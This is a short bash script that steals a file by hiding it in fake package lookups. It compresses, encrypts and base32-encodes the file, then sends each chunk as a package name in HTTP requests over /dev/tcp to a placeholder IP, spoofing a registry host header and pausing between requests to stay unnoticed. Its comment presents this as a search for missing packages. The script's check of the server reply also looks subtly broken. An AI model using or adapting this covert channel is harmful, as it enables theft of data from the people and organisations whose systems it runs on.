#!/bin/bash
# missing.sh FILE PAUSE NAMES: looks for packages at the registry that are not there; their names are the file, packed and sealed, a few letters each.
set -e
gzip -c "$1" | openssl enc -aes-128-ctr -pbkdf2 -k made-up | base32 -w 48 | tr -d = | tr A-Z a-z > "$3"
while read -r name; do
  exec 3<>/dev/tcp/198.51.100.20/443
  printf 'GET /%s/-/%s-1.0.0.tgz HTTP/1.0\r\nHost: registry.example.com\r\n\r\n' "$name" "$name" >&3
  read -r answer <&3
  test "$answer" = package
  exec 3>&-
  sleep "$2"
done < "$3"
rm "$3"
